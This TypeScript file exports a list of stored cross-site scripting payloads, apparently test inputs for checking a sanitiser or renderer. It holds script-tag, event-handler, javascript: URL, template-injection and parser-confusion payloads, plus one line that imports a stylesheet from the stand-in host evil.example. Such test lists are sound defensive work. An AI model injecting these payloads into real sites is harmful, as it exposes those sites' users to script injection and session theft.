/** Inputs for stored cross-site scripting attacks. */
export const xssPayloads: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'-alert(1)-'",
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '${alert(1)}{{alert(1)}}',
  '<style>@import "//evil.example"</style>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'javascript:alert(1)',
  '\u2028<b onmouseover=alert(1)>\u0000'.replace('\u0000', ''),
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
];
